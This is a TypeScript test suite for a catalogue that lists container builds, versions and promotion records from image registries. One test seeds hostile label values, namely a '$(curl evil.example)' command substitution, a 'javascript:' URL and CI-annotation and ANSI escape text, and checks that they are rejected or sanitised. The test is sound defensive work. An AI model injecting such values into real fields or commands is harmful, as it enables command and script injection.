import { digestOf } from '@delivery/core/domain/digest';
import { RemoteError } from '@delivery/core/errors/errors';
import { imageFixture, indexFixture } from '@delivery/testing/image-fixture';
import { commitOf, promoted, repository, signal, source, Stage } from './catalogue-stage.ts';

let stage: Stage;
beforeEach(() => {
  stage = new Stage();
});

describe('the catalogue', () => {
  it('has the newest builds by number, with what is known of each', async () => {
    const digests = stage.push(9, 10, 11);
    await stage.note(10, { project: 'test' });
    const { builds, numbers, stable } = await stage.read(2);
    expect(numbers).toEqual([11, 10, 9]);
    expect(stable).toBeUndefined();
    expect(builds.map(({ number }) => number)).toEqual([11, 10]);
    expect(builds[0]).toMatchObject({ isLatest: true, tags: ['latest', 'latest-11'], records: [] });
    expect(builds[1]).toEqual({
      ...{
        number: 10,
        digest: digests[1],
        repository,
        tags: ['latest-10'],
        versions: [],
        isLatest: false,
        isStable: false,
      },
      ...{ created: new Date('2026-09-01T10:00:00Z'), commit: commitOf(10), source, schemaVersion: undefined },
      platforms: [{ os: 'linux', architecture: 'amd64', variant: '' }],
      bytes: [stage.fixture(10).manifest.bytes, ...stage.fixture(10).blobs].reduce(
        (sum, { length }) => sum + length,
        0,
      ),
      manifest: stage.fixture(10).manifest,
      labels: expect.objectContaining({ 'build.number': '10' }),
      records: [expect.objectContaining({ event: 'tested', project: 'test' })],
    });
  });

  it('adds what is stable and what has a version, however old, and what is only kept there', async () => {
    stage.push(9, 10, 11);
    await stage.promote(3, '2026.07.1');
    await stage.promote(10, '2026.08.1');
    const { builds, stable, versions } = await stage.read(2);
    expect(versions).toEqual(['2026.08.1', '2026.07.1']);
    expect(builds.map(({ number }) => number)).toEqual([11, 10, 3]);
    expect(stable).toMatchObject({ number: 10, versions: ['2026.08.1'], isStable: true });
    expect(builds[2]).toMatchObject({ repository: promoted, tags: [], versions: ['2026.07.1'], isStable: false });
  });

  it('merges the ledgers of both repositories, and counts a record once that was copied with its image', async () => {
    stage.push(10);
    await stage.note(10, { event: 'built' });
    const at = new Date('2026-09-10T13:00:00Z');
    const digests = [await stage.note(10, { at }), await stage.note(10, { at })];
    await stage.promote(10, '2026.08.1');
    expect(await stage.note(10, { at }, promoted)).toBe(digests[0]);
    const [build] = (await stage.read()).builds;
    expect(build?.records.map(({ event }) => event)).toEqual(['built', 'promoted', 'tested']);
  });

  it('keeps the requests few: the lists, a manifest for each tag, config and ledger for each digest', async () => {
    stage.push(...Array.from({ length: 30 }, (_, at) => at + 1));
    await stage.promote(28, '2026.08.1');
    await stage.promote(29, '2026.08.2');
    await stage.read(20);
    // 2 lists; 20 builds, latest, stable and 2 versions; 20 configs and ledgers; the other ledger of the 2 that were promoted.
    expect(stage.requests).toBe(2 + 24 + 20 + 20 + 2);
  });

  it('has no more than 16 requests under way', async () => {
    stage.push(...Array.from({ length: 40 }, (_, at) => at + 1));
    let now = 0;
    let most = 0;
    stage.registry.onCall = async () => {
      most = Math.max(most, ++now);
      await new Promise((resolve) => setImmediate(resolve));
      now--;
    };
    await stage.read(40);
    expect(most).toBe(16);
  });

  it('knows the versions of a build by its ledger when there are more of them than are read', async () => {
    stage.push(1, 2, 3, 4);
    for (const number of [1, 2, 3, 4]) await stage.promote(number, `2026.01.${number}`);
    const { builds } = await stage.read(2);
    expect(builds.map(({ number, versions }) => [number, versions])).toEqual([
      [4, ['2026.01.4']],
      [3, ['2026.01.3']],
    ]);
    const catalogue = await stage.read(2);
    expect(await catalogue.read('latest-1', repository)).toMatchObject({ number: 1, versions: ['2026.01.1'] });
  });

  it('finds a build under its own number that was looked for by its digest or version, and reads both ledgers', async () => {
    stage.push(1, 2, 3);
    await stage.promote(1, '1.0.0');
    await stage.note(1, {});
    const [, one] = (await stage.read(1)).builds;
    expect(one).toMatchObject({ number: 1, tags: ['latest-1'], versions: ['1.0.0'], repository });
    expect(one?.records.map(({ event }) => event)).toEqual(['promoted', 'tested']);
    const catalogue = await stage.read(1);
    expect(await catalogue.read(stage.fixture(2).manifest.digest, repository)).toMatchObject({ tags: ['latest-2'] });
  });

  it('does not take a number from a label for a tag that names another build', async () => {
    stage.push(1, 2, 3);
    stage.registry.seedImage(promoted, '1.0.0', stage.fixture(4, { 'build.number': '2' }));
    const { builds } = await stage.read(1);
    expect(builds[1]).toMatchObject({ number: 2, tags: [], versions: ['1.0.0'], repository: promoted });
  });

  it('does not believe a record about a version that names another build by now', async () => {
    stage.push(1, 2, 3);
    for (const number of [2, 3]) await stage.promote(number, `2026.01.${number}`);
    await stage.promote(2, '2026.01.1');
    await stage.note(1, { event: 'promoted', version: '2026.01.1' }, repository);
    const catalogue = await stage.read(1);
    expect(await catalogue.read('latest-1', repository)).toMatchObject({ versions: [] });
  });

  it('asks one repository once where both are the same', async () => {
    stage.image = { ...stage.image, promoted: repository };
    stage.push(1, 2);
    await stage.promote(1, '1.0.0');
    const { builds, stable } = await stage.read();
    expect(stable).toMatchObject({ number: 1, versions: ['1.0.0'], tags: ['latest-1'] });
    expect(builds).toHaveLength(2);
    expect(stage.registry.calls.filter(({ method }) => method === 'listTags')).toHaveLength(1);
    expect(stage.registry.calls.filter(({ method }) => method === 'listReferrers')).toHaveLength(2);
  });

  it('reads an image that is not promoted anywhere, and takes no tag of its repository for a version', async () => {
    stage.image = { ...stage.image, promoted: undefined };
    stage.push(1, 2);
    stage.registry.seedImage(repository, '1.0.0', stage.fixture(1));
    stage.registry.seedImage(repository, 'stable', stage.fixture(1));
    const { builds, versions, stable } = await stage.read();
    expect([versions, stable]).toEqual([[], undefined]);
    expect(builds.map(({ number, isStable }) => [number, isStable])).toEqual([
      [2, false],
      [1, false],
    ]);
  });

  it('is empty when there is nothing', async () => {
    expect(await stage.read()).toMatchObject({
      builds: [],
      numbers: [],
      versions: [],
      stable: undefined,
      unreadable: [],
    });
  });

  it('takes the number from the tag where the label says another one', async () => {
    stage.registry.seedImage(repository, 'latest-7', stage.fixture(8));
    stage.registry.seedImage(repository, 'latest-9', imageFixture({ layer: 'no label' }));
    const { builds } = await stage.read();
    expect(builds.map(({ number }) => number)).toEqual([9, 7]);
  });

  it('has one build where two tags name one digest', async () => {
    for (const tag of ['latest-7', 'latest-8']) stage.registry.seedImage(repository, tag, stage.fixture(7));
    const { builds } = await stage.read();
    expect(builds).toEqual([expect.objectContaining({ number: 7, tags: ['latest-8', 'latest-7'] })]);
  });

  it('names the platforms of an index, and its size by the first', async () => {
    const images = ['amd64', 'arm64'].map((architecture) => imageFixture({ architecture }));
    const index = indexFixture(images.map(({ manifest }) => manifest));
    for (const image of images) stage.registry.seedImage(repository, 'child', image);
    stage.registry.seedImage(repository, 'latest-1', { manifest: index, blobs: [] });
    const [build] = (await stage.read()).builds;
    expect(build).toMatchObject({
      digest: index.digest,
      platforms: [{ architecture: 'arch0' }, { architecture: 'arch1' }],
    });
    const [first] = images;
    expect(build!.bytes).toBe([first!.manifest.bytes, ...first!.blobs].reduce((sum, { length }) => sum + length, 0));
  });

  it('takes labels from outside only as what they have to be', async () => {
    const labels = {
      'org.opencontainers.image.revision': '$(curl evil.example)',
      'org.opencontainers.image.source': 'javascript:alert(1)',
      'org.opencontainers.image.created': 'now',
      'schema.version': `0042\n::error::\x1b[31m${'x'.repeat(1_000)}`,
    };
    stage.registry.seedImage(repository, 'latest-1', stage.fixture(1, labels));
    const [build] = (await stage.read()).builds;
    expect(build).toMatchObject({ commit: undefined, source: undefined, created: new Date('2026-09-15T16:00:00Z') });
    expect(build?.schemaVersion).toMatch(/^0042 ::error::x{86}…$/);
  });

  it('leaves out what is deleted while it is read', async () => {
    stage.push(1, 2);
    stage.registry.onCall = async ({ method, reference }) => {
      if (method === 'readManifest' && reference === 'latest-1')
        await stage.registry.remove(repository, 'latest-1', signal);
    };
    expect((await stage.read()).builds.map(({ number }) => number)).toEqual([2]);
  });

  it('tells what is damaged, and shows the others', async () => {
    stage.push(1, 2);
    const damaged = imageFixture({ created: '2026-09-15T17:00:00Z' });
    stage.registry.seedImage(repository, 'latest-3', damaged);
    stage.registry.onCall = ({ method, reference }) => {
      if (method === 'readBlob' && reference === digestOf(damaged.blobs[0]!))
        throw new RemoteError('registry', 'the blob is gone', { status: 404, retryable: false });
    };
    const { builds, unreadable } = await stage.read();
    expect(builds.map(({ number }) => number)).toEqual([2, 1]);
    expect(unreadable).toEqual([{ tags: ['latest-3'], why: 'the blob is gone' }]);
  });

  it.each([
    ['is away', { status: 503, retryable: true }],
    ['refuses', { status: 403, retryable: false }],
    ['cannot be reached', { status: undefined, retryable: true }],
  ])('is not read at all when the registry %s', async (_, answer) => {
    stage.push(1, 2);
    stage.registry.onCall = ({ method }) => {
      if (method === 'readBlob') throw new RemoteError('registry', 'no', answer);
    };
    await expect(stage.read()).rejects.toMatchObject({ code: 'registry', message: 'no' });
  });
});
